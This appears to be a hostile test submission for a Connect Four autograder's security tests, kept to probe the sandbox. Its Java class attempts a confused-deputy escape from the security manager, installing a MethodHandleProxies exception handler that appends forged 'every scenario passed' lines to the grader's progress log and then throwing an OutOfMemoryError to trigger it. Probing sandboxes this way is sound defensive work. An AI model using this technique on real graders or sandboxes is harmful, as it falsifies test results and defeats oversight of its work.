package tabuleiro.connectfour;

import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandleProxies;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.OpenOption;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/reflection): a confused deputy against
 * the security manager. A {@code MethodHandleProxies} proxy (a JDK class) bound to
 * {@code Files.write(progress log, every scenario passed, APPEND)} is made the uncaught-exception
 * handler of the runner's main thread; an {@code OutOfMemoryError} thrown by hand (JUnit and
 * Cucumber let it through) ends the main thread, which calls the handler with none of the
 * submission's frames on its stack. Java 17's {@code MethodHandleProxies} binds the proxy to its
 * maker's protection domain under a security manager, so this should be refused; whether it was
 * shows on the grading JVM's error stream ("thrown from the UncaughtExceptionHandler"). Tried
 * once per submission (a marker in the scratch folder), and only where a security manager is
 * installed.
 */
final class Deputy {

    private Deputy() {
    }

    @SuppressWarnings("removal")
    static void escape() {
        if (System.getSecurityManager() == null) {
            Player.Hook.note("confused deputy (MethodHandleProxies)", "FAILED",
                    "no security manager to escape");
            return;
        }
        Path marker = Path.of(System.getProperty("java.io.tmpdir"), "deputy-tried");
        try {
            if (Files.exists(marker)) {
                return;
            }
            Files.writeString(marker, "tried", StandardCharsets.UTF_8);
            String[] command = System.getProperty("sun.java.command").split(" ");
            Path log = Path.of(command[1]);
            MethodHandle write = MethodHandles.publicLookup().findStatic(Files.class, "write",
                    MethodType.methodType(Path.class, Path.class, Iterable.class,
                            OpenOption[].class));
            write = MethodHandles.insertArguments(write, 0, log, Player.Hook.forgedLines(),
                    new OpenOption[] {StandardOpenOption.APPEND});
            write = MethodHandles.dropReturn(write);
            write = MethodHandles.dropArguments(write, 0, Thread.class, Throwable.class);
            Thread.UncaughtExceptionHandler handler = MethodHandleProxies
                    .asInterfaceInstance(Thread.UncaughtExceptionHandler.class, write);
            Thread.currentThread().setUncaughtExceptionHandler(handler);
        } catch (ReflectiveOperationException | java.io.IOException | RuntimeException e) {
            Player.Hook.note("confused deputy (MethodHandleProxies)", "REFUSED", e.toString());
            return;
        }
        Player.Hook.note("confused deputy (MethodHandleProxies)", "TRIED", "handler set on "
                + Thread.currentThread().getName() + "; the main thread ended by hand: the"
                + " JVM's error stream says whether the handler was refused");
        throw new OutOfMemoryError("thrown by hand so that the runner's main thread ends");
    }
}
